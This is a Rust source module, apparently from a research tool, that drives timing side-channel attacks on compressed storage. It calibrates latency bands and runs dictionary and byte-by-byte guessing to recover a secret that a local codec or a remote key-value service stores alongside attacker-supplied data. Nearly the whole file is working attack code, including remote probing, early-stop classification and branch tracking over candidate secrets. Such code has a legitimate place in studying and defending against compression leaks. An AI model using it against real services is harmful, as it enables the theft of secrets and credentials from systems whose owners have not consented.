//! Secret extraction drivers: dictionary attacks and bytewise leakage with
//! early-stopping classification, runnable against an in-process codec
//! target or a remote key-value service.
//!
//! All decisions work on per-guess aggregates (minimum for local targets,
//! median for remote ones) and are invariant under constant latency shifts;
//! only relative orderings matter.

use crate::codec::{self, CompressedBlob};
use crate::error::{Error, Result};
use crate::fuzzer::{build_guess_buffer, FitnessTarget, Polarity};
use crate::layout::{self, LayoutConfig};
use crate::service::KvClient;
use crate::timing::{Clock, TimingStats};
use rand::prelude::*;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// Ordered guess alphabet, capital letters then digits by default.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GuessCharset {
    symbols: Vec<u8>,
}

impl GuessCharset {
    pub fn new(symbols: Vec<u8>) -> Result<Self> {
        if symbols.is_empty() {
            return Err(Error::config("charset", "must not be empty"));
        }
        let mut seen = [false; 256];
        for &s in &symbols {
            if seen[s as usize] {
                return Err(Error::config("charset", format!("duplicate symbol 0x{s:02x}")));
            }
            seen[s as usize] = true;
        }
        Ok(GuessCharset { symbols })
    }

    pub fn symbols(&self) -> &[u8] {
        &self.symbols
    }

    pub fn len(&self) -> usize {
        self.symbols.len()
    }

    pub fn is_empty(&self) -> bool {
        self.symbols.is_empty()
    }
}

impl Default for GuessCharset {
    fn default() -> Self {
        GuessCharset {
            symbols: (b'A'..=b'Z').chain(b'0'..=b'9').collect(),
        }
    }
}

/// Aggregate used per guess when comparing latencies.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Statistic {
    Min,
    Median,
}

impl Statistic {
    pub fn of(&self, samples: &[u64]) -> u64 {
        match self {
            Statistic::Min => samples.iter().copied().min().unwrap_or(0),
            Statistic::Median => {
                let mut v = samples.to_vec();
                v.sort_unstable();
                if v.is_empty() {
                    0
                } else if v.len() % 2 == 1 {
                    v[v.len() / 2]
                } else {
                    (v[v.len() / 2 - 1] + v[v.len() / 2]) / 2
                }
            }
        }
    }
}

/// One latency band from calibration.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Region {
    pub lo: u64,
    pub hi: u64,
}

/// Calibrated classification bands: `low` holds the faster class, `high`
/// the slower one, with the critical section in between.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Regions {
    pub low: Region,
    pub high: Region,
    pub statistic: Statistic,
}

impl Regions {
    pub fn validate(&self) -> Result<()> {
        if self.low.lo > self.low.hi || self.high.lo > self.high.hi {
            return Err(Error::contract("region bounds inverted"));
        }
        if self.low.hi >= self.high.lo {
            return Err(Error::contract(
                "regions overlap: no critical section between them",
            ));
        }
        Ok(())
    }

    pub fn midpoint(&self) -> u64 {
        (self.low.hi + self.high.lo) / 2
    }
}

/// Binary classification outcome.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BitClass {
    Low,
    High,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Resolution {
    EarlyStop,
    Majority,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ClassifyOutcome {
    pub class: BitClass,
    pub resolution: Resolution,
    pub samples_used: usize,
}

/// Classify a latency stream as LOW or HIGH. After `reps_min` samples the
/// running statistic decides early once it falls inside either region; at
/// `reps_max` the per-sample majority around the critical midpoint decides.
pub fn early_stop_classify(
    mut next_sample: impl FnMut() -> Result<u64>,
    regions: &Regions,
    reps_min: usize,
    reps_max: usize,
) -> Result<ClassifyOutcome> {
    regions.validate()?;
    if reps_min == 0 || reps_min > reps_max {
        return Err(Error::contract("need 1 <= reps_min <= reps_max"));
    }
    let mut samples = Vec::with_capacity(reps_max);
    while samples.len() < reps_max {
        samples.push(next_sample()?);
        if samples.len() >= reps_min {
            let stat = regions.statistic.of(&samples);
            if stat <= regions.low.hi {
                return Ok(ClassifyOutcome {
                    class: BitClass::Low,
                    resolution: Resolution::EarlyStop,
                    samples_used: samples.len(),
                });
            }
            if stat >= regions.high.lo {
                return Ok(ClassifyOutcome {
                    class: BitClass::High,
                    resolution: Resolution::EarlyStop,
                    samples_used: samples.len(),
                });
            }
        }
    }
    let mid = regions.midpoint();
    let low_votes = samples.iter().filter(|&&s| s <= mid).count();
    let high_votes = samples.len() - low_votes;
    let class = match low_votes.cmp(&high_votes) {
        std::cmp::Ordering::Greater => BitClass::Low,
        std::cmp::Ordering::Less => BitClass::High,
        std::cmp::Ordering::Equal => {
            if regions.statistic.of(&samples) <= mid {
                BitClass::Low
            } else {
                BitClass::High
            }
        }
    };
    Ok(ClassifyOutcome {
        class,
        resolution: Resolution::Majority,
        samples_used: samples.len(),
    })
}

fn percentile(sorted: &[u64], p: f64) -> u64 {
    if sorted.is_empty() {
        return 0;
    }
    let idx = ((sorted.len() - 1) as f64 * p).round() as usize;
    sorted[idx.min(sorted.len() - 1)]
}

/// Build classification regions from two labeled sample sets. Samples are
/// min-filtered in groups of `subsample` first, which strips one-sided
/// network jitter; the bands are percentile ranges of the filtered values,
/// shrunk once if they overlap.
pub fn regions_from_samples(
    fast: &[u64],
    slow: &[u64],
    subsample: usize,
    statistic: Statistic,
) -> Result<Regions> {
    let filter = |samples: &[u64]| -> Vec<u64> {
        let n = subsample.max(1);
        samples
            .chunks(n)
            .map(|c| c.iter().copied().min().unwrap_or(0))
            .collect()
    };
    let mut f = filter(fast);
    let mut s = filter(slow);
    f.sort_unstable();
    s.sort_unstable();
    for (p_lo, p_hi) in [(0.10, 0.90), (0.25, 0.75)] {
        let low = Region {
            lo: percentile(&f, p_lo),
            hi: percentile(&f, p_hi),
        };
        let high = Region {
            lo: percentile(&s, p_lo),
            hi: percentile(&s, p_hi),
        };
        let regions = Regions {
            low,
            high,
            statistic,
        };
        if regions.validate().is_ok() {
            return Ok(regions);
        }
    }
    let gap = percentile(&s, 0.25) as i64 - percentile(&f, 0.75) as i64;
    Err(Error::Calibration {
        observed_gap_ns: gap,
    })
}

/// Measure two labeled probes and derive regions plus which side the
/// correct/fast probe landed on. Fails when the probes are not
/// distinguishable.
pub fn calibrate(
    target: &mut dyn AttackTarget,
    known_correct: &[u8],
    known_incorrect: &[u8],
    reps: usize,
    statistic: Statistic,
) -> Result<(Regions, BitClass)> {
    if reps == 0 {
        return Err(Error::contract("calibration needs at least one rep"));
    }
    target.store_guess("calib-correct", known_correct)?;
    target.store_guess("calib-incorrect", known_incorrect)?;
    let mut correct_samples = Vec::with_capacity(reps);
    let mut incorrect_samples = Vec::with_capacity(reps);
    for _ in 0..reps {
        correct_samples.push(target.probe("calib-correct")?);
        incorrect_samples.push(target.probe("calib-incorrect")?);
    }
    let subsample = (reps / 40).max(1);
    let c_stat = statistic.of(&correct_samples);
    let i_stat = statistic.of(&incorrect_samples);
    if c_stat <= i_stat {
        let regions =
            regions_from_samples(&correct_samples, &incorrect_samples, subsample, statistic)?;
        Ok((regions, BitClass::Low))
    } else {
        let regions =
            regions_from_samples(&incorrect_samples, &correct_samples, subsample, statistic)?;
        Ok((regions, BitClass::High))
    }
}

/// Span geometry shared by every guess of a campaign.
#[derive(Debug, Clone, Copy)]
pub struct SpanSpec {
    pub secret_len: usize,
    pub shift_window: bool,
}

/// A measurable target: installs attacker data for a guess and reports one
/// timed fetch per probe.
pub trait AttackTarget {
    fn configure(&mut self, layout: &LayoutConfig, span: SpanSpec) -> Result<()>;
    fn store_guess(&mut self, key: &str, guess: &[u8]) -> Result<()>;
    fn probe(&mut self, key: &str) -> Result<u64>;
}

/// In-process target timing decompression of the composed victim buffer
/// directly, without a network in between.
pub struct LocalCodecTarget<'a> {
    fitness: FitnessTarget,
    secret: Vec<u8>,
    layout: Option<LayoutConfig>,
    span: Option<SpanSpec>,
    blobs: HashMap<String, CompressedBlob>,
    scratch: Vec<u8>,
    clock: &'a dyn Clock,
}

impl<'a> LocalCodecTarget<'a> {
    pub fn new(fitness: FitnessTarget, secret: Vec<u8>, clock: &'a dyn Clock) -> Self {
        LocalCodecTarget {
            fitness,
            secret,
            layout: None,
            span: None,
            blobs: HashMap::new(),
            scratch: Vec::new(),
            clock,
        }
    }
}

impl AttackTarget for LocalCodecTarget<'_> {
    fn configure(&mut self, layout: &LayoutConfig, span: SpanSpec) -> Result<()> {
        self.layout = Some(layout.clone());
        self.span = Some(span);
        self.fitness.shift_window = span.shift_window;
        self.blobs.clear();
        Ok(())
    }

    fn store_guess(&mut self, key: &str, guess: &[u8]) -> Result<()> {
        let layout = self
            .layout
            .as_ref()
            .ok_or_else(|| Error::contract("target not configured with a layout"))?;
        let data = build_guess_buffer(layout, &self.fitness, &self.secret, guess)?;
        let blob = match &self.fitness.policy {
            Some(policy) => codec::store_with_policy(
                policy,
                self.fitness.codec,
                layout.compression_level,
                &data,
            )?,
            None => codec::compress(self.fitness.codec, layout.compression_level, &data)?,
        };
        self.blobs.insert(key.to_string(), blob);
        Ok(())
    }

    fn probe(&mut self, key: &str) -> Result<u64> {
        let blob = self
            .blobs
            .get(key)
            .ok_or_else(|| Error::Protocol(format!("no such key {key}")))?;
        let _token = crate::timing::timing_token();
        let t0 = self.clock.now_ns();
        codec::decompress_into(blob, &mut self.scratch)?;
        std::hint::black_box(self.scratch.as_slice());
        let t1 = self.clock.now_ns();
        Ok(t1.saturating_sub(t0))
    }
}

/// Remote target speaking the wire protocol; payloads are the
/// attacker-controlled portion only, the service prepends its secret.
pub struct RemoteKvTarget {
    client: KvClient,
    layout: Option<LayoutConfig>,
    span: Option<SpanSpec>,
}

impl RemoteKvTarget {
    pub fn new(client: KvClient) -> Self {
        RemoteKvTarget {
            client,
            layout: None,
            span: None,
        }
    }

    pub fn connect(endpoint: &str) -> Result<Self> {
        Ok(Self::new(KvClient::connect(endpoint)?))
    }
}

impl AttackTarget for RemoteKvTarget {
    fn configure(&mut self, layout: &LayoutConfig, span: SpanSpec) -> Result<()> {
        self.layout = Some(layout.clone());
        self.span = Some(span);
        Ok(())
    }

    fn store_guess(&mut self, key: &str, guess: &[u8]) -> Result<()> {
        let layout = self
            .layout
            .as_ref()
            .ok_or_else(|| Error::contract("target not configured with a layout"))?;
        let span = self.span.expect("span set with layout");
        let span_bytes = if span.shift_window {
            layout.shift_window_bytes(guess)?
        } else {
            layout.guess_span_bytes(guess, span.secret_len)?
        };
        let payload = layout::build_attack_payload(layout, &span_bytes)?;
        self.client.set(key, &payload.bytes)
    }

    fn probe(&mut self, key: &str) -> Result<u64> {
        Ok(self.client.get_timed(key)?.1)
    }
}

/// Layout source: one layout for the whole attack or one per byte position.
#[derive(Debug, Clone)]
pub enum AttackLayouts {
    Single(LayoutConfig),
    PerPosition(Vec<LayoutConfig>),
}

impl AttackLayouts {
    pub fn for_position(&self, pos: usize) -> &LayoutConfig {
        match self {
            AttackLayouts::Single(l) => l,
            AttackLayouts::PerPosition(v) => &v[pos.min(v.len() - 1)],
        }
    }
}

/// Attack-wide tunables.
#[derive(Debug, Clone)]
pub struct AttackConfig {
    pub polarity: Polarity,
    pub statistic: Statistic,
    /// Samples taken before early classification may fire.
    pub reps_min: usize,
    /// Hard cap on samples per guess.
    pub reps_max: usize,
    /// Samples per guess when no calibrated regions are available.
    pub fixed_reps: usize,
    pub layouts: AttackLayouts,
    pub shift_mode: bool,
    pub regions: Option<Regions>,
}

impl AttackConfig {
    pub fn new(polarity: Polarity, layouts: AttackLayouts) -> Self {
        AttackConfig {
            polarity,
            statistic: Statistic::Min,
            reps_min: 25,
            reps_max: 200,
            fixed_reps: 100,
            layouts,
            shift_mode: false,
            regions: None,
        }
    }

    fn validate(&self) -> Result<()> {
        if self.polarity == Polarity::Either {
            return Err(Error::contract(
                "attacks need a definite polarity (fastest or slowest)",
            ));
        }
        if self.reps_min == 0 || self.reps_min > self.reps_max {
            return Err(Error::config("reps_min", "need 1 <= reps_min <= reps_max"));
        }
        if self.fixed_reps == 0 || self.fixed_reps > self.reps_max {
            return Err(Error::config("fixed_reps", "need 1 <= fixed_reps <= reps_max"));
        }
        if let Some(r) = &self.regions {
            r.validate()?;
        }
        Ok(())
    }
}

/// How a position decision was reached.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum DecisionFlag {
    Decided,
    /// Best and runner-up were not distinguishable at all.
    Undecided,
    /// Several symbols tied closely; alternatives were kept as branches.
    Ambiguous,
}

#[derive(Debug, Clone)]
pub struct Decision {
    pub position: usize,
    pub chosen: Vec<u8>,
    pub gap_ns: u64,
    pub flag: DecisionFlag,
}

#[derive(Debug, Clone)]
pub struct GuessRecord {
    pub position: usize,
    pub label: String,
    pub stats: TimingStats,
    pub chosen: bool,
}

/// Per-guess timing record, decisions, and the recovered secret bytes.
#[derive(Debug, Clone, Default)]
pub struct AttackTranscript {
    pub per_guess: Vec<GuessRecord>,
    pub decisions: Vec<Decision>,
    pub recovered: Vec<u8>,
    pub requests_used: usize,
    /// Alternative candidates still alive when branching occurred.
    pub alternates: Vec<Vec<u8>>,
}

impl AttackTranscript {
    pub const CSV_HEADER: &'static str = "position,symbol,median_ns,chosen";

    pub fn to_csv(&self) -> String {
        let mut out = String::new();
        for g in &self.per_guess {
            out.push_str(&format!(
                "{},{},{},{}\n",
                g.position,
                g.label,
                g.stats.median_ns,
                if g.chosen { 1 } else { 0 }
            ));
        }
        out
    }

    pub fn to_text(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "recovered: {}\nrequests_used: {}\n",
            String::from_utf8_lossy(&self.recovered),
            self.requests_used
        ));
        for d in &self.decisions {
            out.push_str(&format!(
                "position {}: chose {:?} gap_ns={} ({:?})\n",
                d.position,
                String::from_utf8_lossy(&d.chosen),
                d.gap_ns,
                d.flag
            ));
        }
        for g in &self.per_guess {
            out.push_str(&format!(
                "  pos {} guess {} n={} min={} median={} mean={:.0}{}\n",
                g.position,
                g.label,
                g.stats.n,
                g.stats.min_ns,
                g.stats.median_ns,
                g.stats.mean_ns,
                if g.chosen { "  <= chosen" } else { "" }
            ));
        }
        out
    }
}

/// Outcome of sampling one set of competing guesses.
struct GuessSetOutcome {
    samples: Vec<Vec<u64>>,
    requests: usize,
}

/// Probe a set of stored guesses round-robin in shuffled order. With
/// calibrated regions, non-contenders are dropped after `reps_min` rounds
/// and sampling stops once a single clear winner remains; otherwise every
/// guess gets `fixed_reps` samples.
fn sample_guess_set(
    target: &mut dyn AttackTarget,
    keys: &[String],
    config: &AttackConfig,
    rng: &mut dyn RngCore,
) -> Result<GuessSetOutcome> {
    let n = keys.len();
    let mut samples: Vec<Vec<u64>> = vec![Vec::new(); n];
    let mut active: Vec<usize> = (0..n).collect();
    let mut requests = 0usize;
    let rounds_cap = if config.regions.is_some() {
        config.reps_max
    } else {
        config.fixed_reps
    };
    for round in 0..rounds_cap {
        if config.regions.is_some() && round >= config.reps_min {
            let winners = contenders(&samples, &active, config);
            if !winners.is_empty() {
                if winners.len() == 1 && winner_is_clear(&samples[winners[0]], config) {
                    break;
                }
                active = winners;
            }
        }
        if active.is_empty() {
            break;
        }
        active.shuffle(rng);
        for &idx in &active {
            samples[idx].push(target.probe(&keys[idx])?);
            requests += 1;
        }
    }
    Ok(GuessSetOutcome { samples, requests })
}

/// Guesses whose running statistic still competes for the winner side.
fn contenders(samples: &[Vec<u64>], active: &[usize], config: &AttackConfig) -> Vec<usize> {
    let stats: Vec<(usize, u64)> = active
        .iter()
        .map(|&i| (i, config.statistic.of(&samples[i])))
        .collect();
    if stats.len() <= 1 {
        return active.to_vec();
    }
    match &config.regions {
        Some(regions) => {
            let mid = regions.midpoint();
            let winner_side = |stat: u64| match config.polarity {
                Polarity::CorrectFastest => stat <= mid,
                Polarity::CorrectSlowest => stat > mid,
                Polarity::Either => unreachable!("validated out"),
            };
            let winners: Vec<usize> = stats
                .iter()
                .filter(|(_, s)| winner_side(*s))
                .map(|(i, _)| *i)
                .collect();
            winners
        }
        None => active.to_vec(),
    }
}

fn winner_is_clear(samples: &[u64], config: &AttackConfig) -> bool {
    let regions = config.regions.as_ref().expect("called with regions");
    let stat = config.statistic.of(samples);
    match config.polarity {
        Polarity::CorrectFastest => stat <= regions.low.hi,
        Polarity::CorrectSlowest => stat >= regions.high.lo,
        Polarity::Either => false,
    }
}

/// Pick the winner index per polarity plus the gap to the nearest rival.
fn decide(stats: &[u64], polarity: Polarity) -> (usize, u64) {
    let chosen = match polarity {
        Polarity::CorrectFastest => {
            stats
                .iter()
                .enumerate()
                .min_by_key(|(_, &s)| s)
                .expect("non-empty")
                .0
        }
        _ => {
            stats
                .iter()
                .enumerate()
                .max_by_key(|(_, &s)| s)
                .expect("non-empty")
                .0
        }
    };
    let gap = stats
        .iter()
        .enumerate()
        .filter(|(i, _)| *i != chosen)
        .map(|(_, &s)| stats[chosen].abs_diff(s))
        .min()
        .unwrap_or(0);
    (chosen, gap)
}

/// Try every guess against the target and pick the extremal responder.
/// Guess order is re-shuffled every probing round.
pub fn dictionary_attack(
    target: &mut dyn AttackTarget,
    guesses: &[Vec<u8>],
    config: &AttackConfig,
    rng: &mut dyn RngCore,
) -> Result<AttackTranscript> {
    config.validate()?;
    if guesses.len() < 2 {
        return Err(Error::contract("dictionary needs at least two guesses"));
    }
    let secret_len = guesses.iter().map(|g| g.len()).max().unwrap_or(0);
    target.configure(
        config.layouts.for_position(0),
        SpanSpec {
            secret_len,
            shift_window: config.shift_mode,
        },
    )?;
    let keys: Vec<String> = (0..guesses.len()).map(|i| format!("guess-{i}")).collect();
    for (key, guess) in keys.iter().zip(guesses) {
        target.store_guess(key, guess)?;
    }
    let outcome = sample_guess_set(target, &keys, config, rng)?;
    let stats: Vec<u64> = outcome
        .samples
        .iter()
        .map(|s| config.statistic.of(s))
        .collect();
    let (chosen, gap) = decide(&stats, config.polarity);
    let flag = if gap == 0 {
        DecisionFlag::Undecided
    } else {
        DecisionFlag::Decided
    };
    let mut transcript = AttackTranscript {
        recovered: guesses[chosen].clone(),
        requests_used: outcome.requests,
        ..Default::default()
    };
    for (i, guess) in guesses.iter().enumerate() {
        transcript.per_guess.push(GuessRecord {
            position: 0,
            label: String::from_utf8_lossy(guess).into_owned(),
            stats: TimingStats::from_samples(&outcome.samples[i], 0.0),
            chosen: i == chosen,
        });
    }
    transcript.decisions.push(Decision {
        position: 0,
        chosen: guesses[chosen].clone(),
        gap_ns: gap,
        flag,
    });
    Ok(transcript)
}

const BRANCH_LIMIT: usize = 4;

struct BranchCandidate {
    recovered: Vec<u8>,
    score: u64,
}

/// Recover a secret one byte at a time. Per position the best symbol is
/// appended; when the runner-up is too close both branches are kept (top-2
/// retention) and resolved at later positions, bounded by a branch limit of
/// four live candidates.
pub fn bytewise_attack(
    target: &mut dyn AttackTarget,
    known_prefix: &[u8],
    charset: &GuessCharset,
    secret_len: usize,
    config: &AttackConfig,
    rng: &mut dyn RngCore,
) -> Result<AttackTranscript> {
    config.validate()?;
    if known_prefix.len() < 3 {
        return Err(Error::contract(
            "bytewise leakage needs a known prefix of at least 3 bytes",
        ));
    }
    let mut transcript = AttackTranscript::default();
    if secret_len == 0 {
        return Ok(transcript);
    }
    let mut candidates = vec![BranchCandidate {
        recovered: Vec::new(),
        score: u64::MAX,
    }];
    for pos in 0..secret_len {
        target.configure(
            config.layouts.for_position(pos),
            SpanSpec {
                secret_len,
                shift_window: config.shift_mode,
            },
        )?;
        let mut extensions: Vec<BranchCandidate> = Vec::new();
        let mut position_best: Option<(Vec<u8>, u64, DecisionFlag)> = None;
        for (cand_idx, cand) in candidates.iter().enumerate() {
            let mut keys = Vec::with_capacity(charset.len());
            let mut guesses = Vec::with_capacity(charset.len());
            for &sym in charset.symbols() {
                let mut guess = cand.recovered.clone();
                guess.push(sym);
                let key = format!("bw-{pos}-{cand_idx}-{:02x}", sym);
                target.store_guess(&key, &guess)?;
                keys.push(key);
                guesses.push(guess);
            }
            let outcome = sample_guess_set(target, &keys, config, rng)?;
            transcript.requests_used += outcome.requests;
            let stats: Vec<u64> = outcome
                .samples
                .iter()
                .map(|s| config.statistic.of(s))
                .collect();
            let order = ranked_indices(&stats, config.polarity);
            let best = order[0];
            let second = order[1];
            let best_gap = stats[best].abs_diff(stats[second]);
            // Spread between the winner and the field median scales the
            // ambiguity margin; a runner-up inside a quarter of it is a
            // plausible false positive and is kept as a branch.
            let spread = field_spread(&stats, best);
            let ambiguous = spread == 0 || best_gap * 4 <= spread;
            for (i, &sym_idx) in order.iter().take(if ambiguous { 2 } else { 1 }).enumerate() {
                extensions.push(BranchCandidate {
                    recovered: guesses[sym_idx].clone(),
                    score: if i == 0 { best_gap } else { best_gap / 2 },
                });
            }
            for (i, guess) in guesses.iter().enumerate() {
                transcript.per_guess.push(GuessRecord {
                    position: pos,
                    label: String::from_utf8_lossy(guess).into_owned(),
                    stats: TimingStats::from_samples(&outcome.samples[i], 0.0),
                    chosen: i == best,
                });
            }
            let flag = if spread == 0 {
                DecisionFlag::Undecided
            } else if ambiguous {
                DecisionFlag::Ambiguous
            } else {
                DecisionFlag::Decided
            };
            let replace = match &position_best {
                Some((_, gap, _)) => best_gap > *gap,
                None => true,
            };
            if replace {
                position_best = Some((guesses[best].clone(), best_gap, flag));
            }
        }
        extensions.sort_by(|a, b| b.score.cmp(&a.score).then(a.recovered.cmp(&b.recovered)));
        extensions.truncate(BRANCH_LIMIT);
        candidates = extensions;
        let (chosen, gap, flag) = position_best.expect("at least one candidate evaluated");
        transcript.decisions.push(Decision {
            position: pos,
            chosen,
            gap_ns: gap,
            flag,
        });
    }
    transcript.recovered = candidates[0].recovered.clone();
    transcript.alternates = candidates[1..].iter().map(|c| c.recovered.clone()).collect();
    Ok(transcript)
}

fn ranked_indices(stats: &[u64], polarity: Polarity) -> Vec<usize> {
    let mut idx: Vec<usize> = (0..stats.len()).collect();
    match polarity {
        Polarity::CorrectFastest => idx.sort_by_key(|&i| stats[i]),
        _ => idx.sort_by_key(|&i| std::cmp::Reverse(stats[i])),
    }
    idx
}

/// Distance between the winner and the field median, the scale against
/// which the winner's lead is judged.
fn field_spread(stats: &[u64], best: usize) -> u64 {
    let mut others: Vec<u64> = stats
        .iter()
        .enumerate()
        .filter(|(i, _)| *i != best)
        .map(|(_, &s)| s)
        .collect();
    others.sort_unstable();
    let median = others[others.len() / 2];
    stats[best].abs_diff(median)
}
